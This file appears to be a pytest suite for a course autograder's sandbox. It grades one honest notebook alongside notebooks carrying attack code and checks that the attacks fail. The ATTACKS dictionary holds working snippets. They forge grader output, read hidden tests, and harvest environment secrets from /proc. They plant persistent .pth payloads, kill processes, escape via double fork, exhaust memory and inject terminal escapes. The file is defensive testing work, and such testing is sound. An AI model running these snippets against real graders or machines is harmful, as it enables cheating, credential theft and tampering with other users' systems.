"""A hostile student who has read the grader's source, end to end against the real engine.

One class is graded in one run (``grade_submissions``, warm graders, as ``coursekit grade``
does): an honest victim and one attacker per attack class. Each test asserts that the
victim keeps full marks, the attacker gets no more than its honest points (a blank stub:
zero) and nothing outside the sandbox changed. The layers that stop each class are in
:mod:`coursekit.grading.sandbox`'s threat table.
"""

from __future__ import annotations

import os
import socket
import threading
import time
from pathlib import Path

import pytest

from coursekit.grading.parent import grade_notebook, grade_submissions
from coursekit.grading.results import clean_text
from coursekit.grading.sandbox import probe
from coursekit.grading.settings import Settings
from tests.fixtures.grading_notebooks import make_notebook

ASSIGNMENT = "02-augmentation"
LAYERS = probe()
pytestmark = pytest.mark.skipif(
    not LAYERS.sufficient,
    reason="this kernel offers neither user namespaces nor Landlock with seccomp: "
    + "; ".join(LAYERS.missing()),
)
REPO = Path(__file__).resolve().parents[1]
HIDDEN = REPO / "autograder" / "test_02_augmentation.py"
SECRET = "ghp_attack_canary_0123456789"
SLEEP_MARK = "987654321"
#: A tree memory limit below the three 600 MB children of the memory attack together, and
#: above each of them (as the default 2 GB is against three 1.2 GB children).
LIMITS = Settings(memory_mb=1024)

#: Attack code per class, as a student's own cell (top level: it runs when the notebook is
#: loaded) or as the body of a graded function (it runs in every check).
ATTACKS = {
    "forge": """
import os, json, sys
line = json.dumps({"submission": "x", "assignment": "02-augmentation", "questions": []})
for fd in range(3, 256):
    try:
        os.write(fd, (line + "\\n").encode())
    except OSError:
        pass
for pid in os.listdir("/proc"):
    for fd in (os.listdir(f"/proc/{pid}/fd") if os.path.isdir(f"/proc/{pid}/fd") else []):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as h:
                h.write("0" * 32 + " " + line + "\\n")
        except OSError:
            pass
frame, seen = sys._getframe(), []
while frame is not None:
    seen.append(sorted(frame.f_locals))
    frame = frame.f_back
""",
    "read_hidden": f"""
def rotate90(image, k=1):
    import glob, os
    found = []
    guesses = glob.glob("/*/*/autograder/*.py") + glob.glob("/*/autograder/*.py")
    gradescope = "/autograder/source/autograder/test_02_augmentation.py"
    for path in [{str(HIDDEN)!r}, gradescope] + guesses:
        try:
            found.append(open(path).read())
        except OSError:
            pass
    raise RuntimeError("LEAK:" + "|".join(found))
""",
    "network": """
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(("127.0.0.1", PORT))
        s.sendall(b"hidden tests here")
    except OSError:
        pass
""",
    "write_outside": """
import os, sys, site
targets = [CANARY, HIDDEN, VICTIM]
targets += [os.path.join(p, "zz_attack.pth") for p in site.getsitepackages()]
import coursekit
targets.append(os.path.join(os.path.dirname(coursekit.__file__), "__init__.py"))
for path in targets:
    try:
        with open(path, "a") as h:
            h.write("import os; os.system('echo owned')\\n")
    except OSError:
        pass
try:
    with open("/scratch/big", "wb") as h:
        h.write(b"x" * (400 * 1024 * 1024))
except OSError:
    pass
""",
    "kill": """
import os, signal
for target in (TESTPID, -1, 0):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
""",
    "escape": f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{SLEEP_MARK}"])
    os._exit(0)
""",
    "environment": """
def rotate90(image, k=1):
    import os
    seen = dict(os.environ)
    for pid in os.listdir("/proc"):
        try:
            seen[pid] = open(f"/proc/{pid}/environ").read()
        except OSError:
            pass
    raise RuntimeError("ENV:" + repr(seen))
""",
    "answers": """
def rotate90(image, k=1):
    import gc, importlib, subprocess, sys
    import coursekit.augment.geometry as geometry
    for attempt in (
        lambda: geometry._rotate90(image, k),
        lambda: importlib.reload(geometry).rotate90(image, k),
        lambda: next(f for f in gc.get_objects() if getattr(f, "__name__", "") == "_rotate90"
                     and getattr(f, "__code__", None) and len(f.__code__.co_code) > 60)(image, k),
        lambda: (lambda ns: (exec(open(geometry.__file__).read(), ns), ns["rotate90"])[1])(
            {"__name__": "x"})(image, k),
    ):
        try:
            return attempt()
        except BaseException:
            pass
    out = subprocess.run([sys.executable, "-c", "import numpy as np, coursekit.augment as a;"
                          "print(a.rotate90(np.eye(2), 1).tolist())"], capture_output=True)
    raise RuntimeError(out.stdout.decode() + out.stderr.decode()[-300:])
""",
    "memory": """
import os
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(600 * 1024 * 1024)
            for i in range(0, len(block), 4096):
                block[i] = 1
        except MemoryError:
            pass
        os._exit(0)
    children.append(pid)
for pid in children:
    try:
        os.waitpid(pid, 0)
    except OSError:
        pass
for _ in range(100):
    try:
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
""",
    "ansi": """
def rotate90(image, k=1):
    raise RuntimeError("\\x1b[2J\\x1b[1;1H\\x1b[32m rotate90 2 / 2 passed\\r\\x07")
""",
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade the victim and every attacker in one run; keep what a test needs to compare."""
    root = tmp_path_factory.mktemp("attacks")
    outside = tmp_path_factory.mktemp("outside")
    canary = outside / "canary.txt"
    canary.write_text("untouched\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            received.append(connection.recv(1024) or b"(connected)")
            connection.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    submitted = root / "submitted"
    victim = make_notebook(submitted / "victim" / ASSIGNMENT / "augmentation.ipynb", ASSIGNMENT)
    constants = (
        f"PORT = {listener.getsockname()[1]}\nCANARY = {str(canary)!r}\nHIDDEN = {str(HIDDEN)!r}\n"
        f"VICTIM = {str(victim)!r}\nTESTPID = {os.getpid()}\n"
    )
    for name, code in ATTACKS.items():
        overrides = {"rotate90": code} if code.lstrip().startswith("def rotate90") else {}
        extra = [] if overrides else [constants + code]
        make_notebook(
            submitted / name / ASSIGNMENT / "augmentation.ipynb",
            ASSIGNMENT,
            overrides,
            stub=True,
            extra_cells=extra,
        )
    before = {p: p.read_bytes() for p in (HIDDEN, victim, canary)}
    old = os.environ.get("GH_TOKEN")
    os.environ["GH_TOKEN"] = SECRET
    try:
        results = grade_submissions([submitted], ASSIGNMENT, jobs=1, settings=LIMITS)
    finally:
        if old is None:
            os.environ.pop("GH_TOKEN", None)
        else:
            os.environ["GH_TOKEN"] = old
        time.sleep(0.5)
        stop.set()
        thread.join(timeout=5)
        listener.close()
    by_student = {r.student_id: r for r in results}
    from coursekit.grading.report import format_results

    return {
        "results": by_student,
        "text": format_results(results, "text"),
        "json": format_results(results, "json"),
        "received": received,
        "before": before,
        "canary": canary,
    }


def _auto(result) -> float:
    return result.auto_score


def test_victim_keeps_full_marks_and_reports_isolation(graded):
    victim = graded["results"]["victim"]
    assert victim.auto_score == victim.auto_max_score == 11.0, victim.error
    assert "namespaces" in victim.isolation or "landlock" in victim.isolation
    assert "isolation:" in graded["text"]


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attacker_gets_no_more_than_its_honest_points(graded, attack):
    assert _auto(graded["results"][attack]) == 0.0


def test_forged_result_channel(graded):
    forged = graded["results"]["forge"]
    assert forged.auto_score == 0.0 and not forged.error


def test_hidden_tests_unreadable(graded):
    leaked = graded["results"]["read_hidden"].questions[0].feedback
    assert "LEAK:" in leaked  # the attack ran...
    # ...and found nothing
    assert "@check" not in graded["text"] and "def test_" not in graded["text"]


def test_network_refused(graded):
    assert graded["received"] == []


def test_writes_outside(graded):
    for path, content in graded["before"].items():
        assert path.read_bytes() == content, f"{path} changed"
    import site

    for folder in site.getsitepackages():
        assert not (Path(folder) / "zz_attack.pth").exists()


def test_kill_grader_and_parent(graded):
    assert graded["results"]["victim"].auto_score == 11.0  # the grading went on for everyone


def test_escaped_process_dies(graded):
    survivors = []
    for pid in os.listdir("/proc"):
        try:
            if SLEEP_MARK in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"):
                survivors.append(pid)
        except OSError:
            pass
    assert survivors == []


def test_environment(graded):
    assert SECRET not in graded["text"] and SECRET not in graded["json"]
    assert "ENV:" in graded["results"]["environment"].questions[0].feedback


def test_answers_withheld(graded):
    rotate90 = graded["results"]["answers"].questions[0]
    assert rotate90.points == 0.0
    assert "[[0.0, 1.0]" not in rotate90.feedback  # the subprocess found no reference either


def test_resources_leave_grading_intact(graded):
    assert graded["results"]["memory"].error == ""
    assert graded["results"]["write_outside"].error == ""
    # The memory attacker's sleepers use up its process budget: its checks cannot start,
    # and its feedback says so instead of blaming the grader.
    checks = [c for q in graded["results"]["memory"].questions for c in q.checks]
    assert checks and all("used up the processes" in c.feedback for c in checks)


def test_reports_strip_control_characters(graded):
    assert "\x1b" not in graded["text"] and "\x07" not in graded["text"]
    assert clean_text("a\x1b[31mb\rc\x00") == "ab\nc"


def test_symlinked_submission_refused(tmp_path):
    real = make_notebook(tmp_path / "real.ipynb", ASSIGNMENT)
    link = tmp_path / "link.ipynb"
    link.symlink_to(real)
    result = grade_notebook(link, ASSIGNMENT)
    assert result.auto_score == 0.0 and "symbolic link" in result.error
    folder = tmp_path / "folder"
    folder.symlink_to(tmp_path)
    with pytest.raises(FileNotFoundError, match="symbolic link"):
        grade_submissions([folder], ASSIGNMENT)


def test_symlinks_in_a_class_folder_cost_only_their_student(tmp_path):
    from coursekit.classroom import FEEDBACK_FILE, push_feedback

    make_notebook(tmp_path / "class" / "s1" / ASSIGNMENT / "augmentation.ipynb", ASSIGNMENT,
                  stub=True)  # fmt: skip
    elsewhere = make_notebook(tmp_path / "solutions" / "augmentation.ipynb", ASSIGNMENT)
    (tmp_path / "class" / "s2").mkdir()
    (tmp_path / "class" / "s2" / ASSIGNMENT).symlink_to(elsewhere.parent)
    results = {r.student_id: r for r in grade_submissions([tmp_path / "class"], ASSIGNMENT)}
    assert results["s2"].auto_score == 0.0 and "symbolic link" in results["s2"].error
    assert results["s1"].error == ""
    clone = tmp_path / "clone"
    clone.mkdir()
    victim = tmp_path / "instructor.txt"
    victim.write_text("mine\n")
    (clone / FEEDBACK_FILE).symlink_to(victim)
    assert push_feedback(clone, results["s1"], ASSIGNMENT).startswith("failed")
    assert victim.read_text() == "mine\n"


def test_unreadable_notebook_is_an_error_in_every_format(tmp_path):
    from coursekit.grading.report import format_results

    broken = tmp_path / "broken.ipynb"
    broken.write_text("{not json")
    result = grade_notebook(broken, ASSIGNMENT)
    assert "could not be read" in result.error
    for fmt in ("text", "json", "csv"):
        assert "could not be read" in format_results([result], fmt)


def test_refuses_without_isolation(monkeypatch, tmp_path):
    from coursekit.grading import sandbox

    monkeypatch.setattr(sandbox, "_PROBED", sandbox.Layers())
    with pytest.raises(sandbox.IsolationUnavailable, match="trust-submissions"):
        sandbox.plan(trust=False)
    assert sandbox.plan(trust=True) is None
    assert Settings(isolation="available").isolation == "available"
    with pytest.raises(ValueError, match="isolation"):
        Settings(isolation="maybe")
